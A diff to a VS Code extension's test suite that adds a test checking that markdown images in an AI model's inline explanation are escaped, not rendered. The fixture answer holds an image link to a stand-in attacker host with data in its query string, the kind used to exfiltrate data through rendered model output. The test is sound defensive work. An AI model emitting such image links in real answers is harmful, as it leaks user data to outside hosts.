@@ -93,6 +93,20 @@ describe('editor commands', () => {
     await genosConfig().update('explainOutput', undefined, vscode.ConfigurationTarget.Global);
   });
 
+  it('shows images in an inline explanation as links, so nothing loads from the answer', async () => {
+    await genosConfig().update('explainOutput', 'inline', vscode.ConfigurationTarget.Global);
+    try {
+      await selectTotal();
+      const answer = '요약 ![도표](https://attacker.example/p.png?c=total) 끝';
+      server.chatQueue.push({ type: 'stream', content: splitDeltas(answer, 3) });
+      const outcome = await vscode.commands.executeCommand<EditorOutcome>('genos.explainSelection');
+      assert.equal(outcome.answer, answer, 'the answer is kept as the model wrote it');
+      assert.equal(outcome.shown, '요약 \\![도표](https://attacker.example/p.png?c=total) 끝');
+    } finally {
+      await genosConfig().update('explainOutput', undefined, vscode.ConfigurationTarget.Global);
+    }
+  });
+
   it('rewrites into a diff; accept applies exactly the new code as one undoable edit', async () => {
     const editor = await selectTotal();
     server.chatQueue.push({ type: 'stream', content: splitDeltas(`다음과 같이 바꿀 수 있습니다:\n\n\`\`\`ts\n${rewritten}\n\`\`\`\n\nreduce를 사용했습니다.`, 4) });
